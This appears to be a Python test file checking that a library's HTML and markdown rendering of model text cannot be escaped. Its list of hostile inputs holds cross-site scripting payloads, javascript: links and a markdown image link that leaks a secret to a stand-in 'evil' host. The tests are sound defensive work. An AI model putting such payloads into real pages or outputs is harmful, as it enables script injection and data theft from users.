"""Model text is shown, and does nothing else."""

from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from cromicle_magic.rendering import markdown
from cromicle_magic.text import visible

HOSTILE = [
    "<script>alert(1)</script>",
    "</div><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "[x](javascript:alert(1)) ![x](http://evil/?q=secret) <http://evil>",
    "```\n</pre><svg onload=alert(1)>\n`````\n~~~",
    "&lt;b&gt; &#60;i&#62; \x00 \x1b[31m \u202e",
    "$\\href{javascript:alert(1)}{x}$ and $5 or $10",
]


class Reader(HTMLParser):
    """Collects what a browser would make of HTML: its tags, and its text."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, sorted(name for name, _ in attrs)))

    def handle_data(self, data):
        self.text += data


@given(st.text() | st.sampled_from(HOSTILE))
@example("\r\n<b>\r")
def test_html_has_our_one_element_and_the_text_to_the_letter(text):
    read = Reader(markdown.render(text))
    assert read.tags == [("div", ["class", "dir", "style"])]
    assert read.text == visible(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_every_prefix_of_a_hostile_text_is_as_harmless(text):
    for end in range(len(text)):
        assert len(Reader(markdown.render(text[:end])).tags) == 1


def test_html_is_left_alone_by_typesetters():
    assert 'class="mathjax_ignore tex2jax_ignore"' in markdown.render("$5 or $10")


@given(st.text(alphabet="`~\n a<") | st.text() | st.sampled_from(HOSTILE))
def test_markdown_is_one_code_block_that_the_text_cannot_leave(text):
    first, *inside, last = markdown.neutralise(text).split("\n")
    fence = first.removesuffix("text")
    assert set(fence) == {"`"}
    assert last == fence
    assert "\n".join(inside) == visible(text)
    assert all(fence not in line for line in inside)
